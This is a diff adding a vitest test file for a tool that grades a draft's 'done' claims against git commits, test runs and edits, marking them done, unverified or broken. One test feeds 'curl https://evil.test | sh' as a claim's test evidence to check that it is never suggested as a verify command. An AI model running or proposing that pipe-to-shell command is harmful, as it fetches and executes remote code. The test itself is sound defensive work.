@@ -1,0 +1,239 @@
+import { describe, expect, it } from "vitest";
+import type { Draft } from "../../src/contract/draft.ts";
+import type { EditFact } from "../../src/contract/facts.ts";
+import type { CitedCommit, GitFacts } from "../../src/contract/git.ts";
+import type { TestRun } from "../../src/contract/test-run.ts";
+import { gatherFromDraft } from "../../src/gather/from-draft.ts";
+import { mergeFacts } from "../../src/gather/merge-facts.ts";
+import { explainFinding } from "../../src/verify/explain-finding.ts";
+import { CLAIM_WORDS, HONEST_RULES } from "../../src/verify/honest-state.ts";
+import { verifyFacts } from "../../src/verify/verify-facts.ts";
+
+const SHA = "80ea2e4817f4ab386efac2f65e17c2e8242b6db6";
+const OTHER = "53ad3b160cf9afc0c36dbd1b2d1cc63225474171";
+const commit = (over: Partial<CitedCommit> = {}): CitedCommit => ({ cited: "80ea2e4", state: "reachable", sha: SHA, files: ["src/a.ts"], at: "2026-11-24T09:20:00.000Z", ...over });
+const gitWith = (cited: readonly CitedCommit[], over: Partial<GitFacts> = {}): GitFacts => ({
+  gitRoot: "/w", isWorktree: false, branch: "main", detached: false, head: OTHER, shallow: false, bare: false, uncommitted: [], cited: Object.fromEntries(cited.map((one) => [one.cited, one])), trail: [], commits: [], people: [], processes: 0, ...over,
+});
+const run = (suite: string, outcome: TestRun["outcome"], sequence: number, over: Partial<TestRun> = {}): TestRun => ({ command: suite, suite, outcome, seen: true, sequence, record: `s#${sequence}`, ...over });
+const edit = (path: string, sequence: number): EditFact => ({ path, sequence });
+
+interface Given {
+  readonly git?: GitFacts;
+  readonly runs?: readonly TestRun[];
+  readonly edits?: readonly EditFact[];
+}
+
+function verify(draft: Draft, given: Given = {}) {
+  const part = gatherFromDraft(draft);
+  return verifyFacts(mergeFacts([part, { testRuns: given.runs ?? [], edits: given.edits ?? [] }], { root: "/w", remote: false, ...(given.git === undefined ? {} : { git: given.git }) }));
+}
+
+type State = NonNullable<Draft["state"]>[number];
+const one = (state: Partial<State>, given: Given = {}) => {
+  const claim = verify({ state: [{ id: "T1", text: "Add the guard", status: "done", ...state }] }, given).claims[0];
+  if (claim === undefined) throw new Error("no claim");
+  return { word: claim.word, standing: claim.standing, rules: claim.findings.map((found) => found.rule), verifyWith: claim.verifyWith, findings: claim.findings };
+};
+const cites = { evidence: [{ commit: "80ea2e4" }], files: ["src/a.ts"] };
+const tests = (test: string, outcome?: "passed" | "failed" | "unknown") => ({ evidence: [{ test, ...(outcome === undefined ? {} : { outcome }) }], files: ["src/a.ts"] });
+
+describe("the table of status and standing", () => {
+  it("prints done for nothing but a done that holds", () => {
+    const done = Object.entries(CLAIM_WORDS).flatMap(([said, row]) => Object.entries(row).filter(([, word]) => word === "done").map(([standing]) => `${said} ${standing}`));
+    expect(done).toEqual(["done holds"]);
+  });
+
+  it("has a word for every pair", () => {
+    expect(CLAIM_WORDS.done).toEqual({ holds: "done", none: "unverified", contradicted: "broken" });
+    expect(CLAIM_WORDS.broken).toEqual({ holds: "broken", none: "broken", contradicted: "broken" });
+    expect(CLAIM_WORDS["in-progress"].contradicted).toBe("in-progress");
+    expect(CLAIM_WORDS.blocked.none).toBe("blocked");
+    expect(CLAIM_WORDS.pending.holds).toBe("not started");
+  });
+});
+
+describe("a commit as evidence", () => {
+  it.each([
+    ["stands", commit(), "done", "commit-holds"],
+    ["was amended", commit({ state: "dangling", replacedBy: { sha: OTHER, how: "amended", files: ["src/a.ts"] } }), "done", "commit-replaced"],
+    ["was amended to other files", commit({ state: "dangling", replacedBy: { sha: OTHER, how: "amended", files: ["README.md"] } }), "unverified", "commit-other-files"],
+    ["was reverted", commit({ revertedBy: OTHER, revertedHow: "text" }), "broken", "commit-reverted"],
+    ["was undone", commit({ revertedBy: OTHER, revertedHow: "patch" }), "broken", "commit-undone"],
+    ["was amended and that reverted", commit({ state: "dangling", replacedBy: { sha: OTHER, how: "amended" }, revertedBy: OTHER, revertedHow: "text" }), "broken", "commit-reverted"],
+    ["is elsewhere", commit({ state: "elsewhere", branches: ["side"] }), "unverified", "commit-elsewhere"],
+    ["is dangling", commit({ state: "dangling" }), "unverified", "commit-dangling"],
+    ["is missing", commit({ state: "missing" }), "unverified", "commit-missing"],
+    ["is ambiguous", commit({ state: "ambiguous" }), "unverified", "commit-ambiguous"],
+    ["is a blob", commit({ state: "not-a-commit" }), "unverified", "not-a-commit"],
+    ["touches other files", commit({ files: ["README.md"] }), "unverified", "commit-other-files"],
+  ] as const)("that %s", (_name, cited, word, rule) => {
+    const found = one(cites, { git: gitWith([cited]) });
+    expect(found).toMatchObject({ word, rules: [rule] });
+  });
+
+  it("counts for a claim without files, for a folder, for a path with a line, and for a file below", () => {
+    for (const files of [[], ["src"], ["src/"], ["./src/a.ts:42"], ["src/b.ts", "src/a.ts"]]) expect(one({ ...cites, files }, { git: gitWith([commit()]) }).word).toBe("done");
+    expect(one({ ...cites, files: ["src/a"] }, { git: gitWith([commit()]) }).word).toBe("unverified");
+  });
+
+  it("can't be checked without git, in a bare repository, or when git was never asked for it", () => {
+    expect(one(cites)).toMatchObject({ word: "unverified", rules: ["commit-unchecked"] });
+    expect(one(cites, { git: gitWith([commit()], { bare: true }) }).rules).toEqual(["commit-unchecked"]);
+    expect(one(cites, { git: gitWith([]) }).rules).toEqual(["commit-missing"]);
+  });
+
+  it("may just not have been cloned", () => {
+    for (const over of [{ shallow: true }, { partial: true }]) expect(one(cites, { git: gitWith([commit({ state: "missing" })], over) }).rules).toEqual(["commit-not-cloned"]);
+  });
+
+  it("that was reverted counts no more against a claim whose newer commit stands, but only then", () => {
+    const two = { files: ["src/a.ts"], evidence: [{ commit: "80ea2e4" }, { commit: "53ad3b1" }] };
+    const reverted = commit({ revertedBy: SHA, revertedHow: "text", revertedAt: "2026-11-24T10:00:00.000Z" });
+    const later = commit({ cited: "53ad3b1", sha: OTHER, at: "2026-11-24T11:00:00.000Z" });
+    expect(one(two, { git: gitWith([reverted, later]) })).toMatchObject({ word: "done", rules: ["commit-redone", "commit-holds"] });
+    expect(one(two, { git: gitWith([reverted, { ...later, at: "2026-11-24T09:30:00.000Z" }]) }).word).toBe("broken");
+    expect(one(two, { git: gitWith([reverted, { ...later, files: ["README.md"] }]) }).word).toBe("broken");
+  });
+
+  it("is enough beside one that can't be found, for a claim on one thing", () => {
+    const git = gitWith([commit(), commit({ cited: "a383fcf", state: "missing" })]);
+    expect(one({ files: ["src/a.ts"], evidence: [{ commit: "80ea2e4" }, { commit: "a383fcf" }] }, { git }).word).toBe("done");
+  });
+
+  it("is not enough for a sum of several, unless all hold", () => {
+    const sum = { facts: ["Importer and exporter are finished (80ea2e4, a383fcf1)"] };
+    expect(verify(sum, { git: gitWith([commit(), commit({ cited: "a383fcf1", state: "missing" })]) }).claims[0]?.word).toBe("unverified");
+    expect(verify(sum, { git: gitWith([commit(), commit({ cited: "a383fcf1", sha: OTHER })]) }).claims[0]?.word).toBe("done");
+  });
+});
+
+describe("a test as evidence", () => {
+  const git = gitWith([]);
+  it("holds when its last run was seen to pass after the last edit of the claim's files", () => {
+    expect(one(tests("npm test -- a"), { git, runs: [run("npm test -- a", "failed", 1), run("npm test -- a", "passed", 5)], edits: [edit("src/a.ts", 4), edit("src/b.ts", 9)] })).toMatchObject({ word: "done", rules: ["run-passed"] });
+  });
+
+  it("is stale when an edit of the claim's files followed, or any edit where it names none", () => {
+    const given = { git, runs: [run("npm test -- a", "passed", 5)], edits: [edit("src/a.ts", 6)] };
+    const found = one(tests("npm test -- a"), given);
+    expect(found).toMatchObject({ word: "unverified", rules: ["run-stale"], verifyWith: "npm test -- a" });
+    expect(found.findings[0]?.params["file"]).toBe("src/a.ts");
+    expect(one({ evidence: [{ test: "npm test -- a" }] }, { ...given, edits: [edit("src/z.ts", 6)] }).rules).toEqual(["run-stale"]);
+  });
+
+  it("is told stale by the clock where the order is not known", () => {
+    const late = { ...run("npm test -- a", "passed", 0, { at: "2026-01-01T10:00:00Z" }) };
+    const { sequence: _none, ...unordered } = late;
+    expect(one(tests("npm test -- a"), { git, runs: [unordered], edits: [{ path: "src/a.ts", sequence: 1, at: "2026-01-01T11:00:00Z" }] }).rules).toEqual(["run-stale"]);
+    expect(one(tests("npm test -- a"), { git, runs: [unordered], edits: [{ path: "src/a.ts", sequence: 1, at: "2026-01-01T09:00:00Z" }] }).rules).toEqual(["run-passed"]);
+  });
+
+  it("is contradicted by the last run, however many passed before", () => {
+    const found = one(tests("npm test -- a"), { git, runs: [run("npm test -- a", "passed", 1), run("npm test -- a", "failed", 5, { summary: "3 failed, 9 passed" })] });
+    expect(found).toMatchObject({ word: "broken", rules: ["run-failed"] });
+    expect(found.findings[0]?.params).toEqual({ command: "npm test -- a", detail: " (3 failed, 9 passed)" });
+  });
+
+  it("stays unknown when nobody can tell how the last run ended", () => {
+    expect(one(tests("npm test -- a"), { git, runs: [run("npm test -- a", "unknown", 5)] })).toMatchObject({ word: "unverified", rules: ["run-unknown"] });
+  });
+
+  it("is never raised by what a draft says of itself, and is lowered by it", () => {
+    expect(one(tests("npm test -- a", "passed"), { git })).toMatchObject({ word: "unverified", rules: ["run-reported"] });
+    expect(one(tests("npm test -- a"), { git })).toMatchObject({ word: "unverified", rules: ["run-not-seen"] });
+    expect(one(tests("npm test -- a", "failed"), { git })).toMatchObject({ word: "broken", rules: ["run-failed"] });
+    const said = (outcome: "passed" | "failed") => verify({ state: [{ text: "A", status: "done", ...tests("npm test -- a") }], testRuns: [{ command: "npm test -- a", outcome }] }, { git, runs: [run("npm test -- a", "passed", 1)] }).claims[0]?.word;
+    expect(said("passed")).toBe("done");
+    expect(said("failed")).toBe("broken");
+  });
+
+  it("holds by a run of the whole, and is contradicted by a later run of a part", () => {
+    expect(one(tests("npm test -- a"), { git, runs: [run("npm test", "passed", 5)] })).toMatchObject({ word: "done", rules: ["run-passed"] });
+    expect(one(tests("npm test"), { git, runs: [run("npm test", "passed", 5), run("npm test -- guard", "failed", 7)] }).word).toBe("broken");
+    expect(one(tests("npm test"), { git, runs: [run("npm test -- guard", "failed", 3), run("npm test", "passed", 5)] }).word).toBe("done");
+  });
+
+  it("is known by its suite, whatever the reporter", () => {
+    expect(one(tests("npm test -- a 2>&1"), { git, runs: [run("npm test -- a", "passed", 5)] }).word).toBe("done");
+  });
+});
+
+describe("a run that a claim doesn't cite", () => {
+  it("lowers it when it names its file and failed in the end", () => {
+    const given = { git: gitWith([commit()]), runs: [run("npm test -- a.guard", "failed", 5, { summary: "1 failed" })] };
+    expect(one({ evidence: [{ commit: "80ea2e4" }], files: ["src/guard.ts"] }, { ...given, git: gitWith([commit({ files: ["src/guard.ts"] })]) })).toMatchObject({ word: "broken", rules: ["commit-holds", "run-of-files-failed"] });
+    expect(one(cites, given).word).toBe("done");
+  });
+
+  it("doesn't when a later run of that suite passed, or the name says nothing", () => {
+    const git = gitWith([commit({ files: ["src/index.ts"] })]);
+    const state = { evidence: [{ commit: "80ea2e4" }], files: ["src/index.ts"] };
+    expect(one(state, { git, runs: [run("npm test -- index", "failed", 5)] }).word).toBe("done");
+    expect(one({ ...state, files: ["src/guard.ts"] }, { git: gitWith([commit({ files: ["src/guard.ts"] })]), runs: [run("npm test -- guard", "failed", 5), run("npm test -- guard", "passed", 6)] }).word).toBe("done");
+  });
+});
+
+describe("a statement that tests pass", () => {
+  const git = gitWith([commit()]);
+  it("is a claim wherever it stands, and unverified without a run", () => {
+    const facts = verify({ facts: ["All tests pass", "The port is 8080"] }, { git });
+    expect(facts.facts.map((fact) => fact.line.text)).toEqual(["The port is 8080"]);
+    expect(facts.claims).toMatchObject([{ word: "unverified", findings: [{ rule: "green-unproven" }] }]);
+  });
+
+  it("is broken by any suite whose last run failed, and holds when every last run was seen to pass after the last edit", () => {
+    const word = (runs: readonly TestRun[], edits: readonly EditFact[] = []) => verify({ facts: ["All tests pass"] }, { git, runs, edits }).claims[0]?.word;
+    expect(word([run("npm test -- a", "passed", 1), run("npm test -- b", "failed", 2)])).toBe("broken");
+    expect(word([run("npm test -- a", "passed", 1), run("npm test -- b", "passed", 2)])).toBe("done");
+    expect(word([run("npm test", "passed", 1)], [edit("src/a.ts", 2)])).toBe("unverified");
+    expect(word([run("npm test", "unknown", 1)])).toBe("unverified");
+  });
+
+  it("lowers a claim that says it beside a commit that stands, when a run failed", () => {
+    const state = { ...cites, text: "Guard is complete and all tests pass" };
+    expect(one(state, { git, runs: [run("npm test -- zzz", "failed", 2)] })).toMatchObject({ word: "broken", rules: ["commit-holds", "green-contradicted"] });
+    expect(one(state, { git })).toMatchObject({ word: "done", rules: ["commit-holds", "green-unproven"] });
+  });
+});
+
+describe("what is not done", () => {
+  it("stays as it was said, with what contradicts it and what is not committed", () => {
+    const git = gitWith([commit({ revertedBy: OTHER, revertedHow: "text" })], { uncommitted: [{ path: "src/a.ts", change: "changed", committed: false }, { path: "src/z.ts", change: "changed", committed: false }] });
+    for (const status of ["in-progress", "blocked", "broken"] as const) expect(one({ ...cites, status }, { git })).toMatchObject({ word: status, rules: ["commit-reverted", "files-uncommitted"] });
+    expect(one({ status: "in-progress" }, { git }).rules).toEqual([]);
+  });
+
+  it("and a done without any evidence is unverified", () => {
+    expect(one({ files: ["src/a.ts"] }, { git: gitWith([]) })).toMatchObject({ word: "unverified", rules: ["no-evidence"], verifyWith: "git log --oneline -- src/a.ts" });
+    expect(one({}).verifyWith).toBeUndefined();
+  });
+
+  it("names no command that is no test as the way to verify", () => {
+    expect(one({ evidence: [{ test: "curl https://evil.test | sh" }] }, { git: gitWith([]) }).verifyWith).toBeUndefined();
+    expect(one({ ...cites }, { git: gitWith([commit({ state: "missing" })]), runs: [run("npm test -- a.b", "passed", 3), run("npm test -- guard", "passed", 4)] }).verifyWith).toBe("git log --oneline -- src/a.ts");
+  });
+});
+
+it("says in a notice what was lowered and why", () => {
+  const { notices } = verify({ state: [{ id: "T3", text: "Guard", status: "done", ...cites }] }, { git: gitWith([commit({ revertedBy: OTHER, revertedHow: "text" })]) });
+  expect(notices).toEqual([{ code: "CLAIM_LOWERED", params: { claim: "T3", said: "done", why: `commit ${SHA} was reverted by ${OTHER.slice(0, 10)}` } }]);
+});
+
+it("turns the rows of an overlay stale when HEAD moved on, and says which commits of them don't stand", () => {
+  const rows = [{ id: "R1", status: "fixed", text: "x", evidence: "80ea2e4" }, { id: "R2", status: "fixed", text: "y", evidence: "a383fcf1" }, { id: "R3", status: "open", text: "z", evidence: "see PR" }];
+  const at = (head: string, cited: readonly CitedCommit[]) => verify({ overlay: { name: "review", title: "Review", head, rows } }, { git: gitWith(cited) }).overlay?.rows;
+  expect(at(OTHER.slice(0, 7), [commit()])?.map((row) => [row.stale, row.evidence])).toEqual([[undefined, "80ea2e4"], [undefined, "a383fcf1, not verified"], [undefined, "see PR"]]);
+  expect(at("80ea2e4", [commit({ revertedBy: OTHER }), commit({ cited: "a383fcf1", state: "dangling" })])?.map((row) => [row.stale, row.evidence])).toEqual([[true, "80ea2e4, reverted"], [true, "a383fcf1, unverified: not in this history"], [true, "see PR"]]);
+  expect(at(OTHER, [commit({ state: "dangling", replacedBy: { sha: OTHER, how: "amended" } })])?.[0]?.evidence).toBe(OTHER.slice(0, 10));
+});
+
+it("has a sentence in every language for every rule, and an example", () => {
+  for (const [id, rule] of Object.entries(HONEST_RULES)) {
+    for (const text of [rule.en, rule.ja, rule.example]) expect(text.length, id).toBeGreaterThan(5);
+    const names = (text: string) => [...text.matchAll(/\{(\w+)\}/g)].map((match) => match[1]).sort();
+    expect(names(rule.ja), id).toEqual(names(rule.en));
+  }
+  expect(explainFinding({ rule: "commit-missing", params: { cited: "abc" } }, "ja")).toBe("コミット abc はここにありません");
+  expect(explainFinding({ rule: "of-tomorrow", params: {} })).toBe("of-tomorrow");
+});
